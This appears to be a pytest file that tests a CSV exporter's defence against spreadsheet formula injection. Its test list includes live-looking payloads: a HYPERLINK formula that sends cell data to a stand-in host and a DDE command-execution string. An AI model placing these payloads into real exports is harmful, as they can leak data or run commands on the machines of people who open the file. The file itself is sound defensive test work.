"""CSV cells that begin like a formula are neutralised; numbers stay numbers."""
from __future__ import annotations

import csv
import io

import pytest

from web.csv_export import SafeDictWriter, safe_cell, safe_writer

ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1:A9)",
           "+1+cmd|' /C calc'!A0",
           "-2+3", "\t=1+1", "\r=1+1", "=1", "＝1+1", "@", "-", "+"]


@pytest.mark.parametrize("value", ATTACKS)
def test_formula_starts_are_prefixed_with_a_quote(value):
    assert safe_cell(value) == "'" + value.replace("\r", "\n")


def test_line_breaks_cannot_split_a_row():
    assert safe_cell("one\r\ntwo\rthree") == "one\ntwo\nthree"


@pytest.mark.parametrize("value", ["-5", "-12.50", "+3", "0", "兰州", "a=b", "SKU-1", "",
                                   None, 5, -5, 2.5])
def test_plain_values_pass_through(value):
    assert safe_cell(value) == value


def read_back(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def test_the_writers_neutralise_every_cell():
    buffer = io.StringIO()
    writer = safe_writer(buffer, lineterminator="\n")
    writer.writerow(["reason", "qty"])
    writer.writerows([[value, -1] for value in ATTACKS])
    rows = read_back(buffer.getvalue())
    assert len(rows) == len(ATTACKS) + 1
    assert all(row[0].startswith("'") and row[1] == "-1" for row in rows[1:])
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, ["reason", "qty"], lineterminator="\n")
    writer.writeheader()
    writer.writerows([{"reason": value, "qty": "-3"} for value in ATTACKS])
    rows = read_back(buffer.getvalue())
    assert all(row[0].startswith("'") and row[1] == "-3" for row in rows[1:])
